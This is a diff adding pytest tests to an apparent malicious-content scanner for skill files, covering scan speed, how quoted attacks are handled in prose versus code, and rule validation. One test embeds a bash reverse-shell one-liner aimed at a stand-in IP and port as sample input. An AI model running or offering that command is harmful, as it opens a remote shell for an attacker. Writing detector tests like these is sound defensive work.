@@ -158,3 +158,33 @@ def test_a_timed_out_scan_stops_its_worker() -> None:
     assert result.verdict is Verdict.FAIL
     time.sleep(0.5)
     assert calls == []
+
+
+def test_a_long_api_doc_scans_quickly() -> None:
+    """Thousands of curl lines once made one rule backtrack for seconds (a fail-closed
+    timeout on an honest skill)."""
+    line = "Use `curl https://api.acme.dev/v1/items -H 'Authorization: Bearer $TOKEN'` to list.\n"
+    doc = ("---\nname: api\ndescription: d\n---\n" + line * 3000).encode()
+    started = time.perf_counter()
+    result = scan_files({"SKILL.md": doc})
+    assert time.perf_counter() - started < 5
+    assert result.verdict in (Verdict.PASS, Verdict.PASS_WITH_NOTES)
+
+
+def test_a_warning_lowers_a_quoted_attack_in_prose_but_not_in_code() -> None:
+    shell = "bash -i >& /dev/tcp/198.51.100.2/4444 0>&1"
+    prose = scan_files({"SKILL.md": f"Attackers use `{shell}`; never run it.\n".encode()})
+    code = scan_files({"run.sh": f"{shell}  # attackers use this; never run it\n".encode()})
+    assert prose.verdict is Verdict.PASS_WITH_NOTES
+    assert code.verdict is Verdict.FAIL
+
+
+def test_downgrade_in_must_name_known_kinds() -> None:
+    text = (
+        "rules: [{id: a.b, title: t, category: c, severity: low, confidence: low,"
+        " description: d, remediation: r, kinds: [shell], patterns: [x],"
+        " downgrade_in: [prose], samples: {malicious: [{file: a, text: x}],"
+        " benign: [{file: a, text: y}]}}]"
+    )
+    with pytest.raises(RuleError, match="downgrade_in"):
+        parse_rules({"bad.yaml": text})
